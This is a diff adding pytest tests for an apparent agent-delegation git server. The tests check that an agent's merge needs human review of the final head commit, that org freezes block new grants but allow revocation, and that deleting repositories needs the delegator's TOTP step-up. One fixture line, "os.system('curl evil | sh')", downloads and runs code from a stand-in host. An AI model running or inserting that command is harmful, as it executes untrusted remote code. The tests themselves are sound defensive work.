@@ -175,3 +175,72 @@ def test_credentials_stay_out_of_urls_logs_and_open_files(tmp_path):
         assert agent not in log.getvalue() and "subject_token=[redacted]" in log.getvalue()
     finally:
         srv.stop()
+
+
+def test_an_agents_merge_needs_a_humans_review_of_the_head_it_merges(server, tmp_path):
+    """Commits an agent pushes after the human approved are not what the human approved."""
+    from conftest import commit_file, git, remote, session_token
+    alice = server.add_user("alice")
+    api(server, "POST", "/user/repos", alice, {"name": "payments", "private": True, "auto_init": True})
+    login, agent, _ = server.add_agent("coder")
+    invite = ext(server, "POST", "/agent-invites", alice, {"repo_grants": [
+        {"repo_full_name": "alice/payments", "permission": "push"}]}).json["invite_token"]
+    ext(server, "POST", "/agent-bindings/confirm", agent, {"invite_token": invite})
+    session = session_token(server, agent, "alice/payments")
+    assert api(server, "PUT", "/repos/alice/payments/branches/main/protection", alice, {
+        "required_status_checks": None, "enforce_admins": False, "required_pull_request_reviews": None,
+        "restrictions": None}).status == 200
+    work = str(tmp_path / "w")
+    git(str(tmp_path), "clone", "-q", remote(server, "alice/payments", session), work)
+    commit_file(work, "fix.py", "ok = 1\n")
+    git(work, "push", "-q", "origin", "HEAD:refs/heads/fix")
+    api(server, "POST", "/repos/alice/payments/pulls", session, {"title": "Fix", "head": "fix", "base": "main"})
+    assert api(server, "POST", "/repos/alice/payments/pulls/1/reviews", alice, {"event": "APPROVE"}).status == 200
+    commit_file(work, "fix.py", "ok = 1\nimport os; os.system('curl evil | sh')\n")
+    git(work, "push", "-q", "origin", "HEAD:refs/heads/fix")                       # after the yes
+    r = api(server, "PUT", "/repos/alice/payments/pulls/1/merge", session, {})
+    assert r.status == 405 and "review of its head commit" in r.json["message"]
+    assert api(server, "POST", "/repos/alice/payments/pulls/1/reviews", alice, {"event": "APPROVE"}).status == 200
+    assert api(server, "PUT", "/repos/alice/payments/pulls/1/merge", session, {}).json["merged"] is True
+
+
+def test_a_freeze_refuses_new_access_but_not_the_revocation_an_incident_needs(server):
+    alice = server.add_user("alice")
+    ext(server, "POST", "/user/orgs", alice, {"login": "acme"})
+    api(server, "POST", "/orgs/acme/repos", alice, {"name": "core", "private": True, "auto_init": True})
+    login, agent, _ = server.add_agent("coder")
+    invite = ext(server, "POST", "/agent-invites", alice, {"repo_grants": [
+        {"repo_full_name": "acme/core", "permission": "push"}]}).json["invite_token"]
+    assert ext(server, "POST", "/freezes", alice, {"resource": "org:acme", "reason": "incident 42"}).status == 201
+    r = ext(server, "POST", "/agent-invites", alice, {"repo_grants": [
+        {"repo_full_name": "acme/core", "permission": "admin"}]})
+    assert r.status == 403 and "cannot grant access to acme/core" in r.json["message"]
+    r = ext(server, "POST", "/agent-bindings/confirm", agent, {"invite_token": invite})    # made before the freeze
+    assert r.status == 403 and server.app.store.one("SELECT count(*) FROM collaborators")[0] == 0
+    r = ext(server, "POST", "/revocations", alice, {"org": "acme"})
+    assert r.status == 200, r
+
+
+def test_an_agent_needs_its_delegators_fresh_second_factor_to_destroy_what_is_not_its_own(server):
+    import time
+    import agentgit
+    from conftest import session_token, turn_on_totp
+    alice = server.add_user("alice")
+    api(server, "POST", "/user/repos", alice, {"name": "doomed", "private": True})
+    key = turn_on_totp(server, "alice")
+    login, agent, workspace = server.add_agent("coder")
+    invite = ext(server, "POST", "/agent-invites", alice, {"repo_grants": [
+        {"repo_full_name": "alice/doomed", "permission": "admin"}]}).json["invite_token"]
+    assert ext(server, "POST", "/agent-bindings/confirm", agent, {"invite_token": invite}).status == 201
+    r = api(server, "DELETE", "/repos/alice/doomed", session_token(server, agent))
+    assert r.status == 401 and "needs a TOTP code its delegator alice confirmed" in r.json["message"]
+    assert api(server, "GET", "/repos/alice/doomed", alice).status == 200
+    # alice steps up a switch session with her own code; as her agent, it may then
+    switch = ext(server, "POST", "/agent-bindings/%s/switch-session" % login, alice, {})
+    assert switch.status == 401                       # opening one is itself a step-up action for her
+    assert ext(server, "POST", "/step-up", alice, {"otp": agentgit.totp_code(key, time.time())}).status == 200
+    switch = ext(server, "POST", "/agent-bindings/%s/switch-session" % login, alice, {}).json["token"]
+    assert api(server, "DELETE", "/repos/alice/doomed", switch).status == 401
+    assert ext(server, "POST", "/step-up", switch, {"otp": agentgit.totp_code(key, time.time())}).status == 200
+    assert api(server, "DELETE", "/repos/alice/doomed", switch).status == 204
+    assert api(server, "DELETE", "/repos/" + workspace, agent).status == 204        # its own: no one is asked
